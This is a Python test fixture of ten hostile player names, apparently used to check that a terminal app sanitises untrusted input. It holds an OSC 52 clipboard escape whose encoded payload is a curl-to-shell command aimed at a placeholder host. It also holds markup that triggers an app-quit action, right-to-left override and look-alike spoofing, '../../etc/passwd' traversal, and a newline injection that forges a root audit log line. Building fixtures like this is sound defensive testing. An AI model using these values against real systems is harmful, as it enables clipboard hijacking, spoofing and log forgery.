"""Ten players whose names contain terminal controls, look-alikes, markup, or path separators."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class HostileName:
    """A player's id as a stranger chose it, and the display name that goes with it."""

    external_id: str
    display_name: str


HOSTILE_NAMES: Final[tuple[HostileName, ...]] = (
    HostileName("victim/ban", "x/merge-into/y"),
    HostileName("[@click=app.quit]lobby[/]", "[/nope]"),
    HostileName("\x1b]52;c;Y3VybCBleGFtcGxlLmludmFsaWR8c2gK\x07", "\x1b[2J\x1b[Hclaimed"),
    HostileName("user\u202enimda", "grant_\u202e001+dlog"),
    HostileName("ali\u200bce", "\u2800\u2800"),
    HostileName("..", "../../etc/passwd"),
    HostileName("a/b", "%2e%2e"),
    HostileName("漢字名前プレイヤー", "ａｄｍｉｎ"),
    HostileName("a" + "\u0301" * 200, "p\u0336\u0322\u0315l\u0337\u0321\u0300a\u0334\u0328\u0352y\u0335\u0327\u0361"),
    HostileName("line1\nline2\nline3", "alice\n2026-01-01T00:00:00Z INFO audit ok actor=root action=grant"),
)
